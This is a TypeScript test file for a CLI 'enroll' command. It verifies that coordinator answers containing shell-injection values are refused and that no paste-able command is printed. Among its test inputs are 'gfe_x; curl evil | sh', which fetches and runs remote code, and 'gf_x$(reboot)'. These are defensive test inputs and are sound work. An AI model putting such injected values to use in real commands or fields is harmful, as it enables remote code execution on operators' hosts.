// `gigafactory enroll` prints a command for the operator to paste into the new host's shell, with the code (or, with
// --direct, the token) the coordinator answered: one that is not one shell word (`x; curl … | sh`) or is missing is
// `✘ ERROR bad_response`, exit 1, and no command is printed — it was printed as given (`--code undefined` for a
// missing one). An expiry no Date holds reads "not a time (…)": `toISOString` threw, an `internal` "CLI bug".
import { describe, expect, it } from "vitest";
import { captureCli, connection, stubCoordinator } from "../support/cli-harness.ts";

const enroll = (answer: unknown, ...flags: string[]) =>
  stubCoordinator((_req, reply) => reply.json(201, answer)).then(({ url }) =>
    captureCli(["enroll", "box-9", ...flags, ...connection(url, "shop")]),
  );

describe("enroll's answer", () => {
  it("is refused when its code or token is not one shell word, and no command is printed", async () => {
    for (const r of [
      await enroll({ id: "c1", code: "gfe_x; curl evil | sh", expiresAt: 0 }),
      await enroll({ id: "c1", expiresAt: 0 }),
      await enroll(
        { factoryId: "f1", token: "gf_x$(reboot)", factory: { name: "b", capabilities: [], seats: 1 } },
        "--direct",
      ),
    ]) {
      expect({ code: r.code, stdout: r.stdout }).toEqual({ code: 1, stdout: "" });
      expect(r.stderr).toMatch(
        /^✘ ERROR bad_response: the coordinator's answer is not an? (enrollment code|enrolled factory)/,
      );
    }
  });

  it("prints an expiry no Date holds as such", async () => {
    const r = await enroll({ id: "c1", code: "gfe_shop_abc", expiresAt: 1e300 });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("valid until not a time (1e+300)");
    expect(r.stdout).toContain("--code gfe_shop_abc --name box-9");
  });
});
